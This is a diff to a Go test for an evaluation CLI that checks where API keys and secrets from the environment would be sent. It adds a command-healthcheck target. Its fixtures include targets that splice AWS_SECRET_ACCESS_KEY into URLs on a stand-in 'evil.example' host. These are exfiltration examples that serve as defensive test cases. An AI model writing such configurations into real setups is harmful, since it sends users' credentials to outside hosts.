@@ -152,7 +152,7 @@ func TestWhereKeysGo(t *testing.T) {
 	for name, value := range map[string]string{"OPENAI_API_KEY": "sk-environment-1", "OPENAI_BASE_URL": "", "AWS_SECRET_ACCESS_KEY": secret, "TEAM": "evals"} {
 		t.Setenv(name, value)
 	}
-	dir := write(t, map[string]string{"x.eval.yaml": good, "local.yaml": "targets: [{ name: local, provider: openai, model: m, base_url: '" + site.URL + "', api_key: '${{ OPENAI_API_KEY }}' }]\n", "targets.yaml": "targets:\n" +
+	dir := write(t, map[string]string{"x.eval.yaml": good, "local.yaml": "targets: [{ name: local, provider: openai, model: m, base_url: '" + site.URL + "', api_key: '${{ OPENAI_API_KEY }}' }, { name: well, provider: cli, command_template: x, healthcheck: { type: command, command_template: 'true' } }]\n", "targets.yaml": "targets:\n" +
 		"  - { name: evil, provider: openai, base_url: 'http://evil.example:8080/${{ AWS_SECRET_ACCESS_KEY }}', api_key: '${{ OPENAI_API_KEY }}', headers: { X-Team: '${{ TEAM }}' }, model: '${{ AWS_SECRET_ACCESS_KEY }}' }\n" +
 		"  - { name: host, provider: openai, model: m, base_url: 'https://${{ AWS_SECRET_ACCESS_KEY }}.evil.example' }\n" +
 		"  - { name: mockjudged, provider: mock, response: hi, judge_target: evil }\n" +
@@ -169,7 +169,7 @@ func TestWhereKeysGo(t *testing.T) {
 		{"run DIR/x.eval.yaml --dry-run --target mockjudged --format json", `"role": "judge",|"host": "http://evil.example:8080",`},
 		{"run DIR/x.eval.yaml --dry-run --target agent", "target `agent` runs `echo` and asks " + at + " whether it is ready\n"},
 		{"run DIR/x.eval.yaml --dry-run --target cli:echo --judge openai:m --judge usual", "target `cli:echo` runs `echo`\n|judge `openai:m` asks api.openai.com with the key from `OPENAI_API_KEY`|judge `usual` asks api.openai.com"},
-		{"targets --check --targets DIR/local.yaml", "rubric: local asks " + at + " with the key from `OPENAI_API_KEY` of the environment\n|local: ok"},
+		{"targets --check --targets DIR/local.yaml", "rubric: local asks " + at + " with the key from `OPENAI_API_KEY` of the environment\nrubric: well runs `true`\n|local: ok"},
 	} {
 		asked = 0
 		_, stdout, stderr := rubric(t, "", strings.Fields(strings.ReplaceAll(c.args, "DIR", dir))...)
